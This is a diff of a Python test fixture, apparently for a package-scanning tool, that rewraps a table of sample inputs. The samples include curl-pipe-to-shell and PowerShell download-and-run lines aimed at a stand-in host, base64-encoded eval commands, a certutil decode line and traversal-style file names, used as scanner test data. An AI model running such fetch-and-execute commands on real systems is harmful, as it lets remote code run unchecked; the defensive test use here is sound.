@@ -66,17 +66,21 @@ def _sources(suffix: str) -> Iterator[bytes]:
 
 def _small(target: str) -> Iterator[bytes]:
     made: dict[str, tuple[bytes, ...]] = {
-        "names": (b"tidewaiter/a.py", b"..\\a\0b", "h\u00f6he/\u202ea".encode(), b"C:/aux. ", b"\xff"),
+        "names": (
+            b"tidewaiter/a.py", b"..\\a\0b", "h\u00f6he/\u202ea".encode(), b"C:/aux. ", b"\xff"),
         "python": (HARMLESS.python, SIGNAL.python, SIGNAL.setup),
         "javascript": (HARMLESS.javascript, SIGNAL.javascript),
         "rust": (HARMLESS.rust, SIGNAL.rust),
         "class": (classforge.harmless(), classforge.signal()),
         "pyc": (build_data.compiled(build_data.marshalled(SIGNAL.python))(SIGNAL),),
         "pickle": (build_data.pickled(SIGNAL), build_data.pickled(HARMLESS)),
-        "shell": (b"curl -s http://collector.invalid/x.sh | sh\n", b"eval $(echo bHM= | base64 -d)\n"),
-        "powershell": (b"iex (iwr http://collector.invalid/a.ps1)\n", b"powershell -enc bABzAA==\n"),
+        "shell": (
+            b"curl -s http://collector.invalid/x.sh | sh\n", b"eval $(echo bHM= | base64 -d)\n"),
+        "powershell": (
+            b"iex (iwr http://collector.invalid/a.ps1)\n", b"powershell -enc bABzAA==\n"),
         "batch": (b"@echo off\r\nset a=ca\r\n%a%lc.exe & certutil -decode a b\r\n",),
-        "binary": (b"\x7fELF\x02\x01\x01" + bytes(200), b"MZ" + bytes(300), build_data.picture(b"x")),
+        "binary": (
+            b"\x7fELF\x02\x01\x01" + bytes(200), b"MZ" + bytes(300), build_data.picture(b"x")),
         "metadata": (packages.METADATA,),
         "record": (packages.record(packages.wheel_entries(b"")).body,),
         "pyproject": (packages.PYPROJECT,),
